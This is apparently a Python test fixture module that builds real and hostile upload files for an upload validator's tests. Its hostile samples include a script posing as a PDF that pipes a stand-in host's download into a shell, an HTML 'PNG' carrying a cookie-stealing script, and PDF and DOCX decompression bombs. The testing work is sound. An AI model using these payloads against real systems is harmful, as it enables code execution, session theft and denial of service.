"""Real files of each kind the upload check knows, and hostile ones, made in memory.

Shared by the tests of the validator, of the offer's attachments and of the hostile-input
harness, so each checks the same bytes.
"""

import functools
import io
import zipfile
import zlib

from PIL import Image

ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
OOXML_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def pdf_bytes(text="Statut stowarzyszenia"):
    """A small valid PDF with one page whose content stream is compressed, as real ones are."""
    content = zlib.compress(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    body = b"%PDF-1.7\n"
    for number, obj in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    return body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    """A ZIP of `members` ({name: bytes or str}) in the order given."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            stored = name == "mimetype"  # OpenDocument keeps it first and uncompressed
            archive.writestr(name, content, compress_type=zipfile.ZIP_STORED if stored else compression)
    return buffer.getvalue()


def odt_bytes():
    return zip_bytes({"mimetype": ODT_MIMETYPE, "content.xml": "<office:document-content/>", "styles.xml": "<x/>"})


def docx_bytes(extra=None):
    return zip_bytes(
        {
            "[Content_Types].xml": OOXML_TYPES,
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<w:document><w:body><w:p/></w:body></w:document>",
            **(extra or {}),
        }
    )


def xlsx_bytes():
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["imię", "nazwisko"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def image_bytes(image_format):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


def script_named_pdf():
    return b"#!/bin/sh\ncurl http://zly.example/x | sh\n"


def html_named_png():
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


@functools.cache
def pdf_bomb(unpacked_mb=210):
    """A PDF of well under 1 MB whose one stream inflates to `unpacked_mb` MB of zeros."""
    deflate = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    stream = b"".join(deflate.compress(block) for _ in range(unpacked_mb)) + deflate.flush()
    head = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n"
    )
    stream_object = b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
    return head + stream_object + stream + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_of_many_pages(pages=2500):
    """A PDF of tiny page objects: small to upload, absurd to render."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [" + kids + b"] /Count %d >>\nendobj\n" % pages
    for n in range(pages):
        body += b"%d 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n" % (n + 3)
    return body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def docx_zip_bomb(unpacked_mb=20):
    """A DOCX with a part that would unpack to `unpacked_mb` MB, a thousand times its packed size."""
    return docx_bytes({"word/media/image1.bmp": bytes(unpacked_mb * 1024 * 1024)})


def docx_with_nested_archive():
    return docx_bytes({"word/media/dane.bin": zip_bytes({"inny.txt": "x"})})
